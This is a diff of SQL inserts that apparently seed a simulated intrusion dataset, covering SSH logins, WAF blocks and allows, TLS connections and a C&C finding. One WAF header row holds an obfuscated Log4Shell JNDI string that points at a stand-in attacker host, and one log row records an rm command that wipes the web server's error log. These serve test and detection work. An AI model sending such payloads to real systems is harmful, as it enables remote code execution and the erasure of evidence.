@@ -287,3 +287,42 @@ VALUES
   (3, 203, 3, '2026-11-01 10:10:00', 812, v4('198.51.100.7'), 40022, 'root', 'Failed password for root from 198.51.100.7 port 40022 ssh2', 1, false),
   (3, 204, 2, '2026-11-01 10:10:05', 812, v4('198.51.100.7'), 40023, 'ec2-user', 'Accepted publickey for ec2-user from 198.51.100.7 port 40023 ssh2', 1, false),
   (3, 205, 4, '2026-11-01 10:21:20', NULL, NULL, NULL, 'ec2-user', 'ec2-user : PWD=/ ; USER=root ; COMMAND=/bin/rm /var/log/httpd/error_log', 1, false);
+
+-- waf: one request blocked, the next one let in
+
+INSERT INTO store.waf_context (context_id, capture, format_version, web_acl_id, action, terminating_rule_id, terminating_rule_type,
+  http_source_name, http_source_id, country, http_version, http_method) VALUES
+  (1, 'incident', '1', 'arn:aws:wafv2:eu-central-1:123456789012:regional/webacl/web/1', 'BLOCK', 'Log4Shell', 'REGULAR', 'ALB',
+    '123456789012-app/web/1', 'NL', 'HTTP/1.1', 'GET'),
+  (2, 'incident', '1', 'arn:aws:wafv2:eu-central-1:123456789012:regional/webacl/web/1', 'ALLOW', 'Default_Action', 'REGULAR', 'ALB',
+    '123456789012-app/web/1', 'NL', 'HTTP/1.1', 'GET');
+INSERT INTO store.waf (object_id, row_no, context_id, timestamp, client4, request_id, host, path, user_agent, attack, utf8_escaped)
+VALUES
+  (3, 301, 1, '2026-11-01 10:04:50', v4('198.51.100.7'), '1-a-1', 'www.corp.example', '/', 'x', 'log4shell', false),
+  (3, 302, 2, '2026-11-01 10:05:01', v4('198.51.100.7'), '1-a-2', 'www.corp.example', '/login', 'x', 'log4shell', false);
+INSERT INTO store.waf_rule_context (context_id, capture, part, rule_id, action) VALUES (1, 'incident', 'terminating', 'Log4Shell', 'BLOCK');
+INSERT INTO store.waf_rule (object_id, row_no, context_id, rule_no, timestamp, client4, utf8_escaped)
+VALUES (3, 301, 1, 1, '2026-11-01 10:04:50', v4('198.51.100.7'), false);
+INSERT INTO store.waf_header_context (context_id, capture, header) VALUES (1, 'incident', 'x-api-version');
+INSERT INTO store.waf_header (object_id, row_no, context_id, header_no, timestamp, value, utf8_escaped)
+VALUES (3, 302, 1, 1, '2026-11-01 10:05:01', '${${::-j}ndi:ldap://c2.evil.example/a}', false);
+
+-- tls: one connection, and one that failed
+
+INSERT INTO store.tls_context (context_id, capture, format, elb, tls_protocol, tls_verify_status) VALUES
+  (1, 'incident', 'nlb', 'net/web/1', 'tlsv13', NULL), (2, 'incident', 'alb_connection', 'app/web/1', NULL, 'Failed:ClientCertUntrusted');
+INSERT INTO store.tls (object_id, row_no, context_id, time, client4, client_port, destination4, destination_port, tls_handshake_us,
+  received_bytes, sent_bytes, domain_name, utf8_escaped) VALUES
+  (3, 401, 1, '2026-11-01 10:04:59', v4('198.51.100.7'), 40001, v4('10.0.1.9'), 443, 2000, 98, 246, 'www.corp.example', false),
+  (3, 402, 2, '2026-11-01 10:04:40', v4('198.51.100.7'), 40000, v4('10.0.1.9'), 443, NULL, NULL, NULL, NULL, false);
+
+-- finding: one about the call-out, in two versions
+
+INSERT INTO store.finding_context (context_id, capture, account_id, region, type, severity, resource_type, action_type, instance_id) VALUES
+  (1, 'incident', '123456789012', 'eu-central-1', 'Backdoor:EC2/C&CActivity.B', '8.0', 'Instance', 'NETWORK_CONNECTION', 'i-0web');
+INSERT INTO store.finding (object_id, row_no, context_id, updated_at, event_first_seen, event_last_seen, finding_id, title, private4,
+  remote4, remote_port, direction, count, utf8_escaped) VALUES
+  (3, 501, 1, '2026-11-01 10:15:00', '2026-11-01 10:05:00', '2026-11-01 10:10:00', 'f1', 'C&C', v4('10.0.1.5'), v4('203.0.113.66'),
+    443, 'OUTBOUND', 1, false),
+  (3, 502, 1, '2026-11-01 10:45:00', '2026-11-01 10:05:00', '2026-11-01 10:40:00', 'f1', 'C&C', v4('10.0.1.5'), v4('203.0.113.66'),
+    443, 'OUTBOUND', 5, false);
